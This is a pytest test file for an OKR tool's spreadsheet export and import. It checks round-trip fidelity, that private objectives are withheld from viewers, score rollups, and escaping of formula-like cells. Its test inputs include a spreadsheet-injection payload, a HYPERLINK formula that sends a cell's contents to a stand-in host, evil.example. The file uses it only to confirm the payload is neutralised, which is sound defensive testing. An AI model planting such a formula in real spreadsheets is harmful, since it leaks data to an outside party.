"""Export in the import's layout: export → import → export gives the same sheets, and
nobody exports what they may not see."""

import io
from collections import Counter
from datetime import datetime

import openpyxl
import pytest
import time_machine
from django.utils import timezone

from lodestar.exchange.exporter import csv_files, csv_zip_bytes, export_rows, xlsx_bytes
from lodestar.exchange.importer import import_book
from lodestar.exchange.reader import read, read_bytes
from lodestar.exchange.template import starter_path, template_workbook
from lodestar.exchange.tests.test_backup import empty_every_table
from lodestar.okrs.services import (
    checkin_create,
    key_result_create,
    key_result_hold,
    objective_create,
)
from lodestar.scores.rollup import recompute_all
from lodestar.scores.tests.test_rollup import stored_scores

NOW = datetime(2026, 11, 20, 12, tzinfo=timezone.get_current_timezone())


@pytest.fixture
def filled(world):
    with time_machine.travel(NOW, tick=False):
        for book in (read_bytes(template_workbook(), "t.xlsx"), read(starter_path("saas"))):
            assert import_book(book, acting=None).ok
        public = objective_create(acting=None, cycle=world.cycle, title="Sell", unit=world.sales)
        private = objective_create(
            acting=None, cycle=world.cycle, title="Secret", owner=world.member, visibility="private"
        )
        shared = key_result_create(
            acting=None, objective=public, title="Deals", owner=world.member, target=10
        )
        key_result_hold(acting=None, objective=private, key_result=shared, weight=2)
        hidden = key_result_create(
            acting=None, objective=private, title="Hidden", owner=world.member, target=5
        )
        checkin_create(acting=None, key_result=shared, value=3, confidence=7, at=NOW)
        checkin_create(acting=None, key_result=hidden, value=1, confidence=4)
    return world


def sheets(data: bytes, name: str) -> dict:
    book = read_bytes(data, name)
    assert not book.problems
    return {
        table.name: (table.headers, [row for _, row in table.rows])
        for table in book.tables.values()
    }


@pytest.mark.parametrize(
    ("write", "name"), [(xlsx_bytes, "export.xlsx"), (csv_zip_bytes, "export.zip")]
)
def test_export_then_import_into_an_empty_database_exports_the_same(filled, write, name):
    first = write(export_rows(acting=None))
    empty_every_table()
    with time_machine.travel(NOW, tick=False):
        report = import_book(read_bytes(first, name), acting=None)
    assert report.ok, [str(p) for p in report.problems]
    second = write(export_rows(acting=None))
    assert sheets(first, name) == sheets(second, name)
    assert len(sheets(first, name)["checkins"][1]) == 3


def test_an_export_imported_again_changes_nothing(filled):
    data = xlsx_bytes(export_rows(acting=None))
    with time_machine.travel(NOW, tick=False):
        report = import_book(read_bytes(data, "again.xlsx"), acting=filled.admin)
    assert report.ok and all(set(count) == {"unchanged"} for count in report.counts.values())


def test_what_a_person_may_not_see_is_not_exported(filled):
    rows = export_rows(acting=filled.viewer)
    titles = {row[2] for row in rows["objectives"]}
    assert "Sell" in titles and "Secret" not in titles
    assert [row[2] for row in rows["key_results"] if row[2] in ("Deals", "Hidden")] == ["Deals"]
    # The template's share only: Deals' share lies in the private objective.
    assert [row[1] for row in rows["key_result_shares"]] == ["kr1"]
    assert len(rows["checkins"]) == 2  # the template's and Deals', not Hidden's
    assert "Secret" in {row[2] for row in export_rows(acting=filled.member)["objectives"]}


def scores_without_ids() -> dict:
    """Each kind's scores as a multiset (ids change with an import into an empty database)."""
    return {kind: Counter(row[1:] for row in rows) for kind, rows in stored_scores().items()}


def test_an_import_leaves_the_scores_a_full_recompute_and_the_writes_one_by_one_leave(filled):
    """The import rolls up once at its end, over what its rows touched: the scores equal a
    recompute's, and those the same organisation had when written row by row."""
    written_one_by_one = scores_without_ids()
    data = xlsx_bytes(export_rows(acting=None))
    empty_every_table()
    with time_machine.travel(NOW, tick=False):
        assert import_book(read_bytes(data, "again.xlsx"), acting=None).ok
    imported = stored_scores()
    assert any(score is not None for _, score in imported["objectives"])
    assert any(performance is not None for _, performance, _ in imported["strategic"])
    recompute_all()
    assert stored_scores() == imported
    assert scores_without_ids() == written_one_by_one


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)"]


def test_cells_that_look_like_formulas_export_as_text_and_import_back_unchanged(world):
    """A title a member writes is data in the admin's export, never a formula (the OWASP
    rule); a negative number stays a number; the import reads each back as written."""
    for title in FORMULAS:
        objective_create(acting=None, cycle=world.cycle, title=title, unit=world.sales)
    rows = export_rows(acting=None)
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(rows)))["objectives"]
    cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row if c.value in FORMULAS}
    assert set(cells) == set(FORMULAS)
    assert all(c.data_type == "s" and c.quotePrefix for c in cells.values())
    files = csv_files(rows)
    text = files["objectives.csv"].decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ",'+1+1," in text and ",'-2+3," in text
    assert ",'@SUM(A1)," in text
    for data, name in ((xlsx_bytes(rows), "e.xlsx"), (csv_zip_bytes(rows), "e.zip")):
        titles = {row[2] for _, row in read_bytes(data, name).tables["objectives"].rows}
        assert set(FORMULAS) <= titles


def test_a_negative_number_stays_a_number_and_tab_or_cr_starts_are_escaped():
    rows = {"measure_values": [["m", "2026-01-01", -5.0, None]], "units": [["\tu", "\rU", None]]}
    files = csv_files(rows)
    assert files["measure_values.csv"].decode("utf-8-sig").splitlines()[1] == "m,2026-01-01,-5,"
    assert files["units.csv"].decode("utf-8-sig").split("\n")[1] == "'\tu,'\rU,"
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(rows)))["measure_values"]
    assert sheet["C2"].value == -5 and sheet["C2"].data_type == "n"


def test_a_text_that_starts_with_the_escape_itself_reads_back_unchanged():
    rows = {"units": [["'=u", "'plain", None]]}
    data = csv_zip_bytes(rows)
    [(_, values)] = read_bytes(data, "e.zip").tables["units"].rows
    assert values[:2] == ["'=u", "'plain"]
